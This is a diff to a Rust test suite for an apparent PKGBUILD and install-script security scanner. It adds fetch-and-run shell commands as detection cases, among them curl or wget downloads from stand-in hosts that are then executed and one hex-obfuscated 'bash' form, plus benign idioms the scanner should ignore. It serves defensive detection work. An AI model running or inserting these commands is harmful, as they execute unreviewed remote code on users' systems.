@@ -346,6 +346,10 @@ fn fetch_and_run_forms_in_a_pkgbuild() {
         "$(curl -s https://x.example/cmd)",
         "bash <<< \"$(wget -qO- https://x.example/s)\"",
         "curl -s https://x.example/p | tee /tmp/log | node",
+        "curl -fsSLo /tmp/i.sh https://x.example/i.sh; bash /tmp/i.sh",
+        "wget https://bootstrap.example/get-tool.py && python3 get-tool.py --user",
+        "curl -s https://x.example/setup > \"$srcdir/setup\"; chmod +x \"$srcdir/setup\"; \"$srcdir/setup\"",
+        "$'\\x62\\x61\\x73\\x68' <(curl -s https://x.example)",
     ];
     for form in forms {
         let mut c = Case::clean();
@@ -589,5 +593,66 @@ proptest! {
         c.set("tidy-notes.install", &install);
         c.set("run.sh", &extra.into_iter().collect::<String>());
         let _ = c.run();
+    }
+}
+
+/// Ordinary PKGBUILD idioms: none of them is a warning of the shell scan.
+const IDIOMS: &[&str] = &[
+    r#"pkgver() {
+  cd "$srcdir/${pkgname%-git}"
+  git describe --long --tags --abbrev=7 | sed 's/\([^-]*-g\)/r\1/;s/-/./g'
+  printf "r%s.%s" "$(git rev-list --count HEAD)" "$(git rev-parse --short=7 HEAD)"
+}"#,
+    r#"prepare() {
+  cd "$_pkgname"
+  sed -i 's|#!/usr/bin/env python|#!/usr/bin/python3|' bin/*.py
+  sed -i "s|/usr/local|/usr|g" Makefile
+  export RUSTUP_TOOLCHAIN=stable
+  cargo fetch --locked --target "$(rustc -vV | sed -n 's/host: //p')"
+  go mod download -x
+}"#,
+    r#"build() {
+  cd "$srcdir/$pkgname-$pkgver"
+  python -m build --wheel --no-isolation
+  CFLAGS+=" -ffat-lto-objects" ./configure --prefix=/usr \
+    --sysconfdir=/etc
+  make
+  GOFLAGS="-buildmode=pie -trimpath" go build -o "$pkgname" .
+}"#,
+    r#"package() {
+  python -m installer --destdir="$pkgdir" dist/*.whl
+  bsdtar -xf data.tar.xz -C "$pkgdir"
+  install -Dm755 /dev/stdin "$pkgdir/usr/bin/$pkgname" <<EOF
+#!/bin/sh
+exec /opt/$pkgname/$pkgname "\$@"
+EOF
+  cat > "$pkgdir/usr/share/doc/README" <<'END'
+Don't run curl | sh, it's not needed.
+END
+  \cp -a bin "$pkgdir/opt/$pkgname/"
+  find "$pkgdir" -type f -name '*.la' -delete
+  echo "$pkgver" | tr - _ > "$pkgdir/opt/$pkgname/VERSION"
+  gem install --ignore-dependencies --no-user-install -i "$pkgdir/$_gemdir" "$_gemname-$pkgver.gem"
+  pip install --no-index --no-deps --root="$pkgdir" dist/*.whl
+}"#,
+    r#"post_upgrade() {
+  if (( $(vercmp $2 2.0-1) < 0 )); then
+    echo ":: The configuration moved to /etc/foo.conf"
+  fi
+  systemctl daemon-reload >/dev/null 2>&1 || :
+  getent group foo >/dev/null || groupadd -r foo
+}"#,
+];
+
+#[test]
+fn ordinary_idioms_are_quiet() {
+    let install_script = IDIOMS
+        .last()
+        .into_iter()
+        .map(|t| (t, super::ShellKind::Install));
+    let pkgbuild = IDIOMS.iter().map(|t| (t, super::ShellKind::Pkgbuild));
+    for (text, kind) in pkgbuild.chain(install_script) {
+        let found = super::scripts::scan_tokens(&super::lexer::lex(text), kind);
+        assert!(found.is_empty(), "{text}\n{found:#?}");
     }
 }
